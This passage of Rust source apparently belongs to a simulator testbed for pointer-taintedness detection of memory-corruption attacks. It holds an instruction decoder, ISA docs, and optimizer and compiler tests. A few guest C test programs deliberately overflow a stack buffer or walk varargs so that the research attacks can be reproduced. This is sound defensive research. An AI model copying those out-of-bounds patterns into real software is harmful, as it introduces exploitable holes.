                    rs,
                    rt,
                },
                0x22 => Instr::RAlu {
                    op: RAluOp::Sub,
                    rd,
                    rs,
                    rt,
                },
                0x23 => Instr::RAlu {
                    op: RAluOp::Subu,
                    rd,
                    rs,
                    rt,
                },
                0x24 => Instr::RAlu {
                    op: RAluOp::And,
                    rd,
                    rs,
                    rt,
                },
                0x25 => Instr::RAlu {
                    op: RAluOp::Or,
                    rd,
                    rs,
                    rt,
                },
                0x26 => Instr::RAlu {
                    op: RAluOp::Xor,
                    rd,
                    rs,
                    rt,
                },
                0x27 => Instr::RAlu {
                    op: RAluOp::Nor,
                    rd,
                    rs,
                    rt,
                },
                0x2a => Instr::RAlu {
                    op: RAluOp::Slt,
                    rd,
                    rs,
                    rt,
                },
                0x2b => Instr::RAlu {
                    op: RAluOp::Sltu,
                    rd,
                    rs,
                    rt,
                },
                _ => return Err(err),
            },
            OP_REGIMM => match rt.number() {
                0 => Instr::BranchZ {
                    cond: BranchZCond::Ltz,
                    rs,
                    offset: imm,
                },
                1 => Instr::BranchZ {
                    cond: BranchZCond::Gez,
                    rs,
                    offset: imm,
                },
                _ => return Err(err),
            },
            OP_J => Instr::Jump {
                target: word & 0x03ff_ffff,
                link: false,
            },
            OP_JAL => Instr::Jump {
                target: word & 0x03ff_ffff,
                link: true,
            },
            OP_BEQ => Instr::Branch {
                cond: BranchCond::Eq,
                rs,
                rt,
                offset: imm,
            },
            OP_BNE => Instr::Branch {
                cond: BranchCond::Ne,
                rs,
                rt,
                offset: imm,
            },
            OP_BLEZ => Instr::BranchZ {
                cond: BranchZCond::Lez,
                rs,
                offset: imm,
            },
            OP_BGTZ => Instr::BranchZ {
                cond: BranchZCond::Gtz,
                rs,
                offset: imm,
            },
            0x08..=0x0e => {
                let op = match opcode {
                    0x08 => IAluOp::Addi,
                    0x09 => IAluOp::Addiu,
                    0x0a => IAluOp::Slti,
                    0x0b => IAluOp::Sltiu,
                    0x0c => IAluOp::Andi,
                    0x0d => IAluOp::Ori,
                    _ => IAluOp::Xori,
                };
                Instr::IAlu { op, rt, rs, imm }
            }
            OP_LUI => Instr::Lui {
                rt,
                imm: imm as u16,
            },
            OP_LB => Instr::Load {
                width: MemWidth::Byte,
                signed: true,
                rt,
                base: rs,
                offset: imm,
            },
            OP_LH => Instr::Load {
                width: MemWidth::Half,
                signed: true,
                rt,
                base: rs,
                offset: imm,
            },
            OP_LW => Instr::Load {
                width: MemWidth::Word,
                signed: true,
                rt,
                base: rs,
                offset: imm,
            },
            OP_LBU => Instr::Load {
                width: MemWidth::Byte,
                signed: false,
                rt,
                base: rs,
                offset: imm,
            },
            OP_LHU => Instr::Load {
                width: MemWidth::Half,
                signed: false,
                rt,
                base: rs,
                offset: imm,
            },
            OP_SB => Instr::Store {
                width: MemWidth::Byte,
                rt,
                base: rs,
                offset: imm,
            },
            OP_SH => Instr::Store {
                width: MemWidth::Half,
                rt,
                base: rs,
                offset: imm,
            },
            OP_SW => Instr::Store {
                width: MemWidth::Word,
                rt,
                base: rs,
                offset: imm,
            },
            _ => return Err(err),
        };
        Ok(insn)
    }

    /// Whether this instruction dereferences a pointer held in a register
    /// (loads and stores) — the accesses guarded by the paper's load/store
    /// taintedness detector placed after the EX/MEM stage.
    #[must_use]
    pub const fn dereferences_pointer(&self) -> bool {
        matches!(self, Instr::Load { .. } | Instr::Store { .. })
    }

    /// Whether this instruction transfers control through a register value —
    /// the transfers guarded by the jump taintedness detector placed after
    /// the ID/EX stage.
    #[must_use]
    pub const fn is_register_jump(&self) -> bool {
        matches!(self, Instr::JumpReg { .. } | Instr::JumpAndLinkReg { .. })
    }

    /// Whether this instruction may redirect control flow at all.
    #[must_use]
    pub const fn is_control_flow(&self) -> bool {
        matches!(
            self,
            Instr::Branch { .. }
                | Instr::BranchZ { .. }
                | Instr::Jump { .. }
                | Instr::JumpReg { .. }
                | Instr::JumpAndLinkReg { .. }
        )
    }

    /// Whether a basic block necessarily ends after this instruction: any
    /// control transfer, or a `break` (which never falls through). Used by
    /// the static analyzer's CFG recovery; `syscall` does *not* end a
    /// block — it falls through except for `exit`, which the analyzer
    /// models separately.
    #[must_use]
    pub const fn ends_basic_block(&self) -> bool {
        self.is_control_flow() || matches!(self, Instr::Break { .. })
    }
}

impl fmt::Display for Instr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match *self {
            Instr::Shift { op, rd, rt, shamt } => {
                write!(f, "{} {rd},{rt},{shamt}", op.mnemonic())
            }
            Instr::ShiftV { op, rd, rt, rs } => write!(f, "{}v {rd},{rt},{rs}", op.mnemonic()),
            Instr::RAlu { op, rd, rs, rt } => write!(f, "{} {rd},{rs},{rt}", op.mnemonic()),
            Instr::MulDiv { op, rs, rt } => write!(f, "{} {rs},{rt}", op.mnemonic()),
            Instr::MoveFromHi { rd } => write!(f, "mfhi {rd}"),
            Instr::MoveFromLo { rd } => write!(f, "mflo {rd}"),
            Instr::MoveToHi { rs } => write!(f, "mthi {rs}"),
            Instr::MoveToLo { rs } => write!(f, "mtlo {rs}"),
            Instr::IAlu { op, rt, rs, imm } => {
                if op.zero_extends() {
                    write!(f, "{} {rt},{rs},{:#x}", op.mnemonic(), imm as u16)
                } else {
                    write!(f, "{} {rt},{rs},{imm}", op.mnemonic())
                }
            }
            Instr::Lui { rt, imm } => write!(f, "lui {rt},{imm:#x}"),
            Instr::Load {
                width,
                signed,
                rt,
                base,
                offset,
            } => {
                let mnem = match (width, signed) {
                    (MemWidth::Byte, true) => "lb",
                    (MemWidth::Byte, false) => "lbu",
                    (MemWidth::Half, true) => "lh",
                    (MemWidth::Half, false) => "lhu",
                    (MemWidth::Word, _) => "lw",
                };
                write!(f, "{mnem} {rt},{offset}({base})")
            }
            Instr::Store {
                width,
                rt,
                base,
                offset,
            } => {
                let mnem = match width {
                    MemWidth::Byte => "sb",
                    MemWidth::Half => "sh",
                    MemWidth::Word => "sw",
                };
                write!(f, "{mnem} {rt},{offset}({base})")
            }
            Instr::Branch {
                cond,
                rs,
                rt,
                offset,
            } => {
                let mnem = match cond {
                    BranchCond::Eq => "beq",
                    BranchCond::Ne => "bne",
                };
                write!(f, "{mnem} {rs},{rt},{offset}")
            }
            Instr::BranchZ { cond, rs, offset } => {
                write!(f, "{} {rs},{offset}", cond.mnemonic())
            }
            Instr::Jump { target, link } => {
                let mnem = if link { "jal" } else { "j" };
                write!(f, "{mnem} {:#x}", target << 2)
            }
            Instr::JumpReg { rs } => write!(f, "jr {rs}"),
            Instr::JumpAndLinkReg { rd, rs } => write!(f, "jalr {rd},{rs}"),
            Instr::Syscall => write!(f, "syscall"),
            Instr::Break { code } => write!(f, "break {code:#x}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(insn: Instr) {
        let word = insn.encode();
        let back = Instr::decode(word).unwrap_or_else(|e| panic!("{insn} failed to decode: {e}"));
        assert_eq!(back, insn, "round-trip mismatch for {insn} ({word:#010x})");
    }

    #[test]
    fn ralu_roundtrip_all_ops() {
        for op in RAluOp::ALL {
            roundtrip(Instr::RAlu {
                op,
                rd: Reg::new(1),
                rs: Reg::new(2),
                rt: Reg::new(3),
            });
        }
    }

    #[test]
    fn shift_roundtrip_all_ops_and_amounts() {
        for op in ShiftOp::ALL {
            for shamt in 0..32u8 {
                roundtrip(Instr::Shift {
                    op,
                    rd: Reg::T0,
                    rt: Reg::T1,
                    shamt,
                });
            }
            roundtrip(Instr::ShiftV {
                op,
                rd: Reg::T0,
                rt: Reg::T1,
                rs: Reg::T2,
            });
        }
    }

    #[test]
    fn ialu_roundtrip_extreme_immediates() {
        for op in IAluOp::ALL {
            for imm in [i16::MIN, -1, 0, 1, i16::MAX] {
                roundtrip(Instr::IAlu {
                    op,
                    rt: Reg::V0,
                    rs: Reg::A0,
                    imm,
                });
            }
        }
    }

    #[test]
    fn memory_roundtrip_all_widths() {
        for (width, signed) in [
            (MemWidth::Byte, true),
            (MemWidth::Byte, false),
            (MemWidth::Half, true),
            (MemWidth::Half, false),
            (MemWidth::Word, true),
        ] {
            roundtrip(Instr::Load {
                width,
                signed,
                rt: Reg::new(21),
                base: Reg::new(3),
                offset: -8,
            });
        }
        for width in [MemWidth::Byte, MemWidth::Half, MemWidth::Word] {
            roundtrip(Instr::Store {
                width,
                rt: Reg::new(21),
                base: Reg::new(3),
                offset: 0,
            });
        }
    }

    #[test]
    fn control_flow_roundtrip() {
        roundtrip(Instr::Branch {
            cond: BranchCond::Eq,
            rs: Reg::A0,
            rt: Reg::A1,
            offset: -5,
        });
        roundtrip(Instr::Branch {
            cond: BranchCond::Ne,
            rs: Reg::A0,
            rt: Reg::ZERO,
            offset: 100,
        });
        for cond in [
            BranchZCond::Lez,
            BranchZCond::Gtz,
            BranchZCond::Ltz,
            BranchZCond::Gez,
        ] {
            roundtrip(Instr::BranchZ {
                cond,
                rs: Reg::S0,
                offset: 7,
            });
        }
        roundtrip(Instr::Jump {
            target: 0x10_0048,
            link: false,
        });
        roundtrip(Instr::Jump {
            target: 0x03ff_ffff,
            link: true,
        });
        roundtrip(Instr::JumpReg { rs: Reg::RA });
        roundtrip(Instr::JumpAndLinkReg {
            rd: Reg::RA,
            rs: Reg::T9,
        });
    }

    #[test]
    fn misc_roundtrip() {
        roundtrip(Instr::Syscall);
        roundtrip(Instr::Break { code: 0 });
        roundtrip(Instr::Break { code: 0xf_ffff });
        roundtrip(Instr::Lui {
            rt: Reg::AT,
            imm: 0x1002,
        });
        roundtrip(Instr::MoveFromHi { rd: Reg::V0 });
        roundtrip(Instr::MoveFromLo { rd: Reg::V0 });
        roundtrip(Instr::MoveToHi { rs: Reg::V0 });
        roundtrip(Instr::MoveToLo { rs: Reg::V0 });
        for op in MulDivOp::ALL {
            roundtrip(Instr::MulDiv {
                op,
                rs: Reg::A0,
                rt: Reg::A1,
            });
        }
    }

    #[test]
    fn nop_encodes_to_zero() {
        assert_eq!(Instr::NOP.encode(), 0);
        assert_eq!(Instr::decode(0).unwrap(), Instr::NOP);
    }

    #[test]
    fn decode_rejects_illegal_words() {
        // SPECIAL with an unassigned funct.
        assert!(Instr::decode(0x3f).is_err());
        // Unassigned primary opcode 0x3f.
        assert!(Instr::decode(0xfc00_0000).is_err());
        // REGIMM with an unassigned rt selector.
        assert!(Instr::decode(0x0413_0000).is_err());
    }

    #[test]
    fn display_matches_paper_trace_style() {
        let sw = Instr::Store {
            width: MemWidth::Word,
            rt: Reg::new(21),
            base: Reg::new(3),
            offset: 0,
        };
        assert_eq!(sw.to_string(), "sw $21,0($3)");
        let lw = Instr::Load {
            width: MemWidth::Word,
            signed: true,
            rt: Reg::new(3),
            base: Reg::new(3),
            offset: 0,
        };
        assert_eq!(lw.to_string(), "lw $3,0($3)");
        assert_eq!(Instr::JumpReg { rs: Reg::RA }.to_string(), "jr $31");
    }

    #[test]
    fn pointer_dereference_classification() {
        assert!(Instr::Load {
            width: MemWidth::Byte,
            signed: false,
            rt: Reg::T0,
            base: Reg::T1,
            offset: 0
        }
        .dereferences_pointer());
        assert!(Instr::Store {
            width: MemWidth::Word,
            rt: Reg::T0,
            base: Reg::T1,
            offset: 0
        }
        .dereferences_pointer());
        assert!(!Instr::Syscall.dereferences_pointer());
        assert!(Instr::JumpReg { rs: Reg::RA }.is_register_jump());
        assert!(!Instr::Jump {
            target: 0,
            link: false
        }
        .is_register_jump());
        assert!(Instr::Jump {
            target: 0,
            link: false
        }
        .is_control_flow());
    }

    #[test]
    fn compare_classification_matches_table_1() {
        assert!(RAluOp::Slt.is_compare());
        assert!(RAluOp::Sltu.is_compare());
        assert!(!RAluOp::Add.is_compare());
        assert!(IAluOp::Slti.is_compare());
        assert!(IAluOp::Sltiu.is_compare());
        assert!(!IAluOp::Ori.is_compare());
        assert!(IAluOp::Andi.zero_extends());
        assert!(!IAluOp::Addiu.zero_extends());
    }
}
