#![warn(missing_docs)]

//! # ptaint-isa — the instruction set architecture of the taintedness testbed
//!
//! This crate defines a 32-bit, little-endian, MIPS-like RISC instruction set
//! in the spirit of the SimpleScalar PISA architecture used by the DSN 2005
//! paper *"Defeating Memory Corruption Attacks via Pointer Taintedness
//! Detection"*. Every other crate in the workspace builds on these
//! definitions: the assembler emits [`Instr`] encodings, the compiler lowers
//! mini-C to them, and the CPU crate executes them while tracking per-byte
//! taintedness.
//!
//! The ISA deliberately mirrors classic MIPS I:
//!
//! * 32 general-purpose registers ([`Reg`]) plus `HI`/`LO`,
//! * R/I/J instruction formats with the standard MIPS opcode map,
//! * register-indirect control transfer only through `jr`/`jalr` — exactly
//!   the instructions the paper's jump-pointer taintedness detector guards,
//! * loads and stores as the only memory accesses — the instructions guarded
//!   by the load/store pointer taintedness detector.
//!
//! Unlike historical MIPS, there are **no branch delay slots** (SimpleScalar's
//! PISA made the same simplification), and unaligned word/halfword accesses
//! raise faults.
//!
//! ```
//! use ptaint_isa::{Instr, Reg, IAluOp};
//!
//! let insn = Instr::IAlu { op: IAluOp::Addiu, rt: Reg::T0, rs: Reg::SP, imm: -16 };
//! let word = insn.encode();
//! assert_eq!(Instr::decode(word)?, insn);
//! assert_eq!(insn.to_string(), "addiu $8,$29,-16");
//! # Ok::<(), ptaint_isa::DecodeError>(())
//! ```

mod decoded;
mod insn;
mod layout;
mod reg;

pub use decoded::DecodedInsn;
pub use insn::{
    BranchCond, BranchZCond, DecodeError, IAluOp, Instr, MemWidth, MulDivOp, RAluOp, ShiftOp,
};
pub use layout::{
    ARG_BASE, DATA_BASE, HEAP_BASE_DEFAULT, PAGE_SIZE, STACK_TOP, TEXT_BASE, WORD_BYTES,
};
pub use reg::Reg;
