//! Differential tests: the peephole optimizer must preserve program
//! behaviour while reducing instruction counts.

use proptest::prelude::*;
use ptaint_cpu::{Cpu, DetectionPolicy, StepEvent};
use ptaint_isa::{Reg, STACK_TOP};
use ptaint_mem::{MemorySystem, WordTaint};

const TEST_CRT: &str =
    "\n_start:\n        addiu $sp, $sp, -16\n        jal main\n        break 0\n";

/// Runs `asm` to the break trap; returns (return value, instruction count).
fn run_asm(asm: &str) -> (i32, u64) {
    let image = ptaint_asm::assemble(&format!("{asm}{TEST_CRT}"))
        .unwrap_or_else(|e| panic!("assemble: {e}"));
    let mut mem = MemorySystem::flat();
    for (i, &w) in image.text.iter().enumerate() {
        mem.write_u32(image.text_base + 4 * i as u32, w, WordTaint::CLEAN)
            .unwrap();
    }
    mem.write_bytes(image.data_base, &image.data, false)
        .unwrap();
    let mut cpu = Cpu::new(mem, DetectionPolicy::PointerTaintedness);
    cpu.set_pc(image.entry);
    cpu.regs_mut()
        .set(Reg::SP, STACK_TOP - 64, WordTaint::CLEAN);
    for _ in 0..50_000_000u64 {
        if let StepEvent::BreakTrap(_) = cpu.step().expect("clean execution") {
            return (cpu.regs().value(Reg::V0) as i32, cpu.stats().instructions);
        }
    }
    panic!("did not terminate");
}

/// Compiles both ways and checks result equality plus non-regression of the
/// dynamic instruction count.
fn check_program(src: &str) -> (u64, u64) {
    let plain = ptaint_cc::compile(src).expect("compiles");
    let opt = ptaint_cc::compile_optimized(src).expect("compiles optimized");
    let (r_plain, n_plain) = run_asm(&plain);
    let (r_opt, n_opt) = run_asm(&opt);
    assert_eq!(r_plain, r_opt, "results diverge for:\n{src}");
    assert!(
        n_opt <= n_plain,
        "optimizer made it slower ({n_plain} -> {n_opt}):\n{src}"
    );
    (n_plain, n_opt)
}

#[test]
fn optimizer_preserves_fixed_programs_and_saves_instructions() {
    let programs = [
        "int main() { return (1 + 2) * (3 + 4) - 5; }",
        "int fib(int n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
         int main() { return fib(12); }",
        "int main() {
            int a[16]; int i; int s = 0;
            for (i = 0; i < 16; i++) a[i] = i * 3;
            for (i = 0; i < 16; i++) s += a[i];
            return s;
        }",
        "struct p { int x; int y; };
         int main() {
            struct p v; struct p *q;
            v.x = 3; v.y = 4;
            q = &v;
            return q->x * q->x + q->y * q->y;
         }",
        "int main() {
            int x = 10;
            while (x > 0) { x -= 3; }
            return x == -2 ? 7 : 8;
        }",
    ];
    let mut total_plain = 0;
    let mut total_opt = 0;
    for src in programs {
        let (p, o) = check_program(src);
        total_plain += p;
        total_opt += o;
    }
    // Across the battery the optimizer must actually pay for itself.
    assert!(
        total_opt * 100 <= total_plain * 95,
        "expected >=5% dynamic instruction reduction, got {total_plain} -> {total_opt}"
    );
}

#[test]
fn optimizer_keeps_static_code_smaller_or_equal() {
    let src = "int main() { int a = 1; int b = 2; int c = 3; return a + b * c - (a + b); }";
    let plain = ptaint_cc::compile(src).unwrap();
    let opt = ptaint_cc::compile_optimized(src).unwrap();
    let count = |s: &str| {
        s.lines()
            .filter(|l| {
                let t = l.trim();
                !t.is_empty() && !t.starts_with('.') && !t.starts_with('#') && !t.ends_with(':')
            })
            .count()
    };
    assert!(count(&opt) < count(&plain), "{opt}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Random arithmetic over locals: optimized and plain builds agree.
    #[test]
    fn differential_random_arithmetic(vals in proptest::collection::vec(-100i32..100, 3..6)) {
        let decls: String = vals
            .iter()
            .enumerate()
            .map(|(i, v)| format!("int x{i} = {v}; "))
            .collect();
        let expr = (0..vals.len())
            .map(|i| format!("x{i}"))
            .collect::<Vec<_>>()
            .join(" * 3 + ");
        let src = format!("int main() {{ {decls} return {expr}; }}");
        let plain = ptaint_cc::compile(&src).unwrap();
        let opt = ptaint_cc::compile_optimized(&src).unwrap();
        prop_assert_eq!(run_asm(&plain).0, run_asm(&opt).0, "{}", src);
    }
}
