//! End-to-end compiler tests: compile mini-C, assemble, execute on the
//! taint-tracking CPU, and check results.

use ptaint_cpu::{Cpu, DetectionPolicy, StepEvent};
use ptaint_isa::{Reg, STACK_TOP};
use ptaint_mem::{MemorySystem, WordTaint};

/// Minimal test harness entry point: calls `main` with no arguments, then
/// stops the simulation with `break 0`. (`_start` wins entry resolution.)
const TEST_CRT: &str = "
_start:
        addiu $sp, $sp, -16
        jal main
        break 0
";

/// Compiles and runs `src`; returns the final CPU state (with `main`'s
/// return value in `$v0`).
fn run_c(src: &str) -> Cpu {
    let asm = ptaint_cc::compile(src).unwrap_or_else(|e| panic!("compile error: {e}"));
    let full = format!("{asm}\n{TEST_CRT}\n");
    let image = ptaint_asm::assemble(&full)
        .unwrap_or_else(|e| panic!("assemble error: {e}\n--- asm ---\n{full}"));
    let mut mem = MemorySystem::flat();
    for (i, &w) in image.text.iter().enumerate() {
        mem.write_u32(image.text_base + 4 * i as u32, w, WordTaint::CLEAN)
            .unwrap();
    }
    mem.write_bytes(image.data_base, &image.data, false)
        .unwrap();
    let mut cpu = Cpu::new(mem, DetectionPolicy::PointerTaintedness);
    cpu.set_pc(image.entry);
    cpu.regs_mut()
        .set(Reg::SP, STACK_TOP - 64, WordTaint::CLEAN);
    for step in 0..10_000_000u64 {
        match cpu.step() {
            Ok(StepEvent::BreakTrap(_)) => return cpu,
            Ok(_) => {}
            Err(e) => {
                let trace: Vec<String> = cpu
                    .recent_trace()
                    .iter()
                    .map(|(pc, i)| format!("{pc:#x}: {i}"))
                    .collect();
                panic!(
                    "execution failed at step {step}: {e}\ntrace:\n{}",
                    trace.join("\n")
                );
            }
        }
    }
    panic!("program did not terminate");
}

fn ret(src: &str) -> i32 {
    run_c(src).regs().value(Reg::V0) as i32
}

#[test]
fn constants_and_arithmetic() {
    assert_eq!(ret("int main() { return 0; }"), 0);
    assert_eq!(ret("int main() { return 41 + 1; }"), 42);
    assert_eq!(ret("int main() { return 1 + 2 * 3 - 4 / 2; }"), 5);
    assert_eq!(ret("int main() { return 17 % 5; }"), 2);
    assert_eq!(ret("int main() { return -7 / 2; }"), -3);
    assert_eq!(ret("int main() { return -7 % 2; }"), -1);
    assert_eq!(ret("int main() { return (1 + 2) * (3 + 4); }"), 21);
}

#[test]
fn bitwise_and_shifts() {
    assert_eq!(ret("int main() { return 0xf0 | 0x0f; }"), 0xff);
    assert_eq!(ret("int main() { return 0xff & 0x3c; }"), 0x3c);
    assert_eq!(ret("int main() { return 0xff ^ 0x0f; }"), 0xf0);
    assert_eq!(ret("int main() { return ~0; }"), -1);
    assert_eq!(ret("int main() { return 1 << 10; }"), 1024);
    assert_eq!(ret("int main() { return -8 >> 1; }"), -4);
    assert_eq!(
        ret("int main() { unsigned x = 0x80000000; return x >> 28; }"),
        8
    );
}

#[test]
fn comparisons_and_logic() {
    assert_eq!(ret("int main() { return 3 < 5; }"), 1);
    assert_eq!(ret("int main() { return 5 < 3; }"), 0);
    assert_eq!(ret("int main() { return 3 <= 3; }"), 1);
    assert_eq!(ret("int main() { return 4 > 3; }"), 1);
    assert_eq!(ret("int main() { return 4 >= 5; }"), 0);
    assert_eq!(ret("int main() { return 7 == 7; }"), 1);
    assert_eq!(ret("int main() { return 7 != 7; }"), 0);
    assert_eq!(ret("int main() { return -1 < 1; }"), 1, "signed compare");
    assert_eq!(
        ret("int main() { unsigned a = 0xffffffff; return a < 1; }"),
        0,
        "unsigned compare"
    );
    assert_eq!(ret("int main() { return 1 && 2; }"), 1);
    assert_eq!(ret("int main() { return 1 && 0; }"), 0);
    assert_eq!(ret("int main() { return 0 || 3; }"), 1);
    assert_eq!(ret("int main() { return !5; }"), 0);
    assert_eq!(ret("int main() { return !0; }"), 1);
}

#[test]
fn short_circuit_does_not_evaluate_rhs() {
    assert_eq!(
        ret("int g = 0;
             int bump() { g = 1; return 1; }
             int main() { 0 && bump(); return g; }"),
        0
    );
    assert_eq!(
        ret("int g = 0;
             int bump() { g = 1; return 1; }
             int main() { 1 || bump(); return g; }"),
        0
    );
}

#[test]
fn variables_and_assignment() {
    assert_eq!(
        ret("int main() { int a = 3; int b = 4; return a * b; }"),
        12
    );
    assert_eq!(
        ret("int main() { int a; int b; a = b = 5; return a + b; }"),
        10
    );
    assert_eq!(
        ret("int main() { int a = 10; a += 5; a -= 3; a *= 2; a /= 4; return a; }"),
        6
    );
    assert_eq!(
        ret("int main() { int a = 6; a %= 4; a <<= 3; a >>= 1; a |= 1; return a; }"),
        9
    );
    assert_eq!(
        ret("int main() { int a = 0xff; a &= 0x0f; a ^= 0xff; return a; }"),
        0xf0
    );
}

#[test]
fn inc_dec() {
    assert_eq!(ret("int main() { int i = 5; return i++; }"), 5);
    assert_eq!(ret("int main() { int i = 5; i++; return i; }"), 6);
    assert_eq!(ret("int main() { int i = 5; return ++i; }"), 6);
    assert_eq!(ret("int main() { int i = 5; return i--; }"), 5);
    assert_eq!(ret("int main() { int i = 5; return --i; }"), 4);
    assert_eq!(
        ret("int main() { int a[3]; int *p; a[0]=1; a[1]=2; a[2]=3; p = a; p++; return *p; }"),
        2
    );
}

#[test]
fn control_flow() {
    assert_eq!(
        ret("int main() { int i; int s = 0; for (i = 1; i <= 10; i++) s += i; return s; }"),
        55
    );
    assert_eq!(
        ret("int main() { int n = 0; while (n < 7) n++; return n; }"),
        7
    );
    assert_eq!(
        ret("int main() { int n = 0; do { n++; } while (n < 3); return n; }"),
        3
    );
    assert_eq!(
        ret("int main() { int i; int s = 0;
             for (i = 0; i < 100; i++) { if (i == 5) continue; if (i == 8) break; s += i; }
             return s; }"),
        1 + 2 + 3 + 4 + 6 + 7
    );
    assert_eq!(
        ret("int main() { int x = 10; if (x > 5) return 1; else return 2; }"),
        1
    );
    assert_eq!(ret("int main() { return 1 ? 10 : 20; }"), 10);
    assert_eq!(ret("int main() { return 0 ? 10 : 20; }"), 20);
}

#[test]
fn functions_and_recursion() {
    assert_eq!(
        ret("int add(int a, int b) { return a + b; }
             int main() { return add(40, 2); }"),
        42
    );
    assert_eq!(
        ret(
            "int fib(int n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
             int main() { return fib(12); }"
        ),
        144
    );
    assert_eq!(
        ret("int fact(int n) { return n <= 1 ? 1 : n * fact(n - 1); }
             int main() { return fact(6); }"),
        720
    );
    // Deep call chains exercise frame save/restore.
    assert_eq!(
        ret("int f(int n) { if (n == 0) return 0; return 1 + f(n - 1); }
             int main() { return f(500); }"),
        500
    );
}

#[test]
fn pointers_and_arrays() {
    assert_eq!(
        ret("int main() { int x = 7; int *p = &x; *p = 9; return x; }"),
        9
    );
    assert_eq!(
        ret("int main() { int a[4]; a[0] = 1; a[1] = 2; a[3] = a[0] + a[1]; return a[3]; }"),
        3
    );
    assert_eq!(
        ret("int main() { int a[4]; int *p = a + 2; *p = 42; return a[2]; }"),
        42
    );
    assert_eq!(
        ret("int sum(int *v, int n) { int s = 0; int i; for (i = 0; i < n; i++) s += v[i]; return s; }
             int main() { int a[5]; int i; for (i = 0; i < 5; i++) a[i] = i * i; return sum(a, 5); }"),
        1 + 4 + 9 + 16
    );
    assert_eq!(
        ret("int main() { int a[8]; int *p = &a[6]; int *q = &a[2]; return p - q; }"),
        4
    );
    assert_eq!(
        ret("int main() { char s[4]; s[0]='a'; s[1]='b'; char *p = s; return p[1]; }"),
        98
    );
}

#[test]
fn strings_and_globals() {
    assert_eq!(
        ret(r#"char msg[8] = "hi";
               int main() { return msg[0] + msg[1]; }"#),
        (b'h' + b'i') as i32
    );
    assert_eq!(
        ret(r#"char *msg = "abc";
               int main() { return msg[2]; }"#),
        b'c' as i32
    );
    assert_eq!(
        ret("int table[4] = {10, 20, 30};
             int main() { return table[0] + table[1] + table[2] + table[3]; }"),
        60
    );
    assert_eq!(
        ret("int counter = 5;
             void bump() { counter++; }
             int main() { bump(); bump(); return counter; }"),
        7
    );
    assert_eq!(
        ret(r#"int main() { char *s = "xyz"; return s[0]; }"#),
        b'x' as i32
    );
}

#[test]
fn char_semantics() {
    // chars load sign-extended (lb), mask to recover bytes >= 0x80.
    assert_eq!(ret("int main() { char c = 200; return c; }"), 200i32 - 256);
    assert_eq!(ret("int main() { char c = 200; return c & 0xff; }"), 200);
    assert_eq!(ret("int main() { char c = 'A'; return c + 1; }"), 66);
}

#[test]
fn structs() {
    assert_eq!(
        ret("struct point { int x; int y; };
             int main() { struct point p; p.x = 3; p.y = 4; return p.x * p.x + p.y * p.y; }"),
        25
    );
    assert_eq!(
        ret("struct point { int x; int y; };
             int manhattan(struct point *p) { return p->x + p->y; }
             int main() { struct point p; p.x = 3; p.y = 4; return manhattan(&p); }"),
        7
    );
    // The heap-chunk pattern the allocator uses: linked structures.
    assert_eq!(
        ret("struct node { int value; struct node *next; };
             int main() {
                struct node a; struct node b; struct node c;
                a.value = 1; b.value = 2; c.value = 3;
                a.next = &b; b.next = &c; c.next = 0;
                int s = 0;
                struct node *p = &a;
                while (p) { s += p->value; p = p->next; }
                return s;
             }"),
        6
    );
    assert_eq!(
        ret("struct mixed { char tag; int value; char name[5]; };
             int main() { struct mixed m; m.tag = 1; m.value = 100; m.name[4] = 7;
                          return sizeof(struct mixed) + m.value + m.name[4]; }"),
        16 + 100 + 7
    );
}

#[test]
fn sizeof_results() {
    assert_eq!(ret("int main() { return sizeof(int); }"), 4);
    assert_eq!(ret("int main() { return sizeof(char); }"), 1);
    assert_eq!(ret("int main() { return sizeof(char*); }"), 4);
    assert_eq!(ret("int main() { int a[10]; return sizeof a; }"), 40);
    assert_eq!(ret("int main() { char b[10]; return sizeof b; }"), 10);
    assert_eq!(ret("int main() { int x; return sizeof x; }"), 4);
}

#[test]
fn casts() {
    assert_eq!(
        ret("int main() { int x = 0x12345678; char c = (char)x; return c; }"),
        0x78
    );
    assert_eq!(
        ret("int main() { unsigned u = (unsigned)-1; return u > 100; }"),
        1
    );
    // int <-> pointer round trip.
    assert_eq!(
        ret("int main() { int x = 5; int addr = (int)&x; int *p = (int*)addr; return *p; }"),
        5
    );
    // Word access through a cast char pointer.
    assert_eq!(
        ret("int main() { int x = 0x01020304; char *p = (char*)&x; return p[0]; }"),
        4,
        "little-endian byte order"
    );
}

#[test]
fn function_pointers() {
    assert_eq!(
        ret("int twice(int x) { return 2 * x; }
             int thrice(int x) { return 3 * x; }
             int main() {
                int (*fp)(int);
                fp = twice;
                int a = fp(10);
                fp = thrice;
                return a + fp(10);
             }"),
        50
    );
    assert_eq!(
        ret("int inc(int x) { return x + 1; }
             int apply(int (*f)(int), int v) { return f(v); }
             int main() { return apply(inc, 41); }"),
        42
    );
}

#[test]
fn varargs_walk_the_stack() {
    // The vfprintf pattern: walk an argument pointer past the last named
    // parameter. This must work for the format-string attack to exist.
    assert_eq!(
        ret("int sum(int count, ...) {
                 char *ap = (char*)&count + 4;
                 int s = 0;
                 int i;
                 for (i = 0; i < count; i++) {
                     s += *(int*)ap;
                     ap += 4;
                 }
                 return s;
             }
             int main() { return sum(4, 10, 20, 30, 40); }"),
        100
    );
}

#[test]
fn nested_scopes_shadowing() {
    assert_eq!(
        ret("int main() {
                int x = 1;
                { int x = 2; { int x = 3; } }
                return x;
             }"),
        1
    );
}

#[test]
fn multi_dimensional_arrays() {
    assert_eq!(
        ret("int main() {
                int g[3][4];
                int i; int j;
                for (i = 0; i < 3; i++)
                    for (j = 0; j < 4; j++)
                        g[i][j] = i * 10 + j;
                return g[2][3];
             }"),
        23
    );
}

#[test]
fn stack_frame_layout_matches_figure_2() {
    // The address of a later-declared local must be *below* an
    // earlier-declared one, and both below the frame pointer, so that a
    // buffer overflow runs toward the saved registers — the layout the
    // paper's attacks (and our guest apps) rely on.
    assert_eq!(
        ret("int main() {
                int first;
                char buf[16];
                int delta = (int)&first - (int)buf;
                return delta == 16;
             }"),
        1
    );
    // buf[16] (one past the end) aliases `first`'s first byte.
    assert_eq!(
        ret("int main() {
                int first = 0;
                char buf[16];
                buf[16] = 0x41;
                return first;
             }"),
        0x41
    );
}

#[test]
fn compile_errors() {
    for (src, needle) in [
        ("int main() { return x; }", "undefined name"),
        ("int main() { int x; return x(); }", "not a function"),
